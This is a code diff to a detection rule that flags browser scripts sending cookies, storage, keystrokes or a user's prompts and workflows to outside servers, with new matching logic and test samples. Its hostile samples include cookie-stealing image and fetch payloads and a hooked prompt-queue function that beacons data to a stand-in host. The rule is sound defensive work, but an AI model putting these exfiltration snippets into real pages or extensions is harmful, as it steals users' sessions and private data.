@@ -1,7 +1,7 @@
 import { notAcross, sequence } from '../../text-search.ts'
 import { argumentsOf, type CodeFacts } from '../code-facts.ts'
 import type { Call } from '../flow/flow.ts'
-import { hostOf, isScriptHost } from '../flow/hosts.ts'
+import { areLoopback, hostOf, isScriptHost, outerHostOf } from '../flow/hosts.ts'
 import { isBundle, isDataAddress, runsScript, sendsAway } from '../flow/javascript-library.ts'
 import { has, isMade, type Value } from '../flow/values.ts'
 import type { CodeRule, Hit } from '../rule.ts'
@@ -231,12 +231,16 @@ export const pageDataSent: CodeRule = {
       'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"fetch(\'//example.test/\'+document.cookie)\\">")',
       // biome-ignore lint/suspicious/noTemplateCurlyInString: a template string of the script that is looked at
       'new Image().src = `https://example.test/?c=${encodeURIComponent(document["coo" + "kie"])}`',
+      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch("https://example.test/g", { method: "POST", body: JSON.stringify(g) })',
+      'import { api } from "../../scripts/api.js"; const old = api.queuePrompt; api.queuePrompt = function (n, data) { navigator.sendBeacon("https://example.test/q", JSON.stringify(data)); return old.call(this, n, data) }',
       'const d = {...localStorage}; const x = new XMLHttpRequest(); x.open("POST", "https://example.test"); x.send(JSON.stringify(d))',
     ],
     harmless: [
       'fetch("/api/save", { method: "POST", body: JSON.stringify(localStorage) })',
       'fetch("https://example.test/x", { headers: { a: localStorage.getItem("my-key") } })',
       'document.addEventListener("keydown", (e) => run(e.key))',
+      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch("/mypack/g", { method: "POST", body: JSON.stringify(g) })',
+      'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch(app.shareAddress, { method: "POST", body: JSON.stringify(g) })',
       'field.addEventListener("input", (e) => fetch("https://example.test/translate", { method: "POST", body: e.target.value }))',
       'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"this.remove()\\">")',
     ],
@@ -254,8 +258,10 @@ export const pageDataSent: CodeRule = {
         !isAssignment(call.name) &&
         values[0] !== undefined &&
         values[0].texts.length > 0 &&
-        values[0].texts.every((text) => hostOf(text) === '' && text.startsWith('/'))
+        values[0].texts.every((text) => text.startsWith('/') || areLoopback([text]))
       const isPrivate = values.some((value) => has(value, 'storage')) || isSpied(call)
+      if (isGivenAway(facts, call))
+        return { message: 'Sends the user’s prompts, workflows or settings away.' }
       return !isOwn && isPrivate
         ? { message: 'Sends away cookies, storage or what the user types.' }
         : undefined
@@ -273,8 +279,21 @@ const tellingHandler = sequence(
 
 /** The user's input, or data that the page sends, goes to a literal address. */
 function isSpied({ args }: Call): boolean {
-  const isElsewhere = args[0]?.texts.some((text) => hostOf(text) !== '') === true
+  const isElsewhere = args[0]?.texts.some((text) => outerHostOf(text) !== '') === true
   return isElsewhere && args.some((value) => has(value, 'spying'))
+}
+
+/** Whether prompts, workflows or settings go to another server that the source names. */
+function isGivenAway({ calls }: CodeFacts, call: Call): boolean {
+  if (!argumentsOf(call).some((value) => has(value, 'private'))) return false
+  const others = /\.send$/.test(call.name)
+    ? calls.filter(({ name }) => /^(XMLHttpRequest\(\)\.open|WebSocket)$/.test(name))
+    : [call]
+  return others.some(({ args }) =>
+    args.some(({ texts }) =>
+      texts.map(outerHostOf).some((host) => host !== '' && !/(^|\.)comfy\.org$/.test(host)),
+    ),
+  )
 }
 
 /** Whether a request opened in another call stays local: no address in the file has a host. */
@@ -283,7 +302,7 @@ function staysHome({ calls }: CodeFacts, { name }: Call): boolean {
   return !calls.some(
     (one) =>
       /^(XMLHttpRequest\(\)\.open|WebSocket)$/.test(one.name) &&
-      one.args.some((arg) => arg.texts.some((text) => hostOf(text) !== '')),
+      one.args.some((arg) => arg.texts.some((text) => outerHostOf(text) !== '')),
   )
 }
 
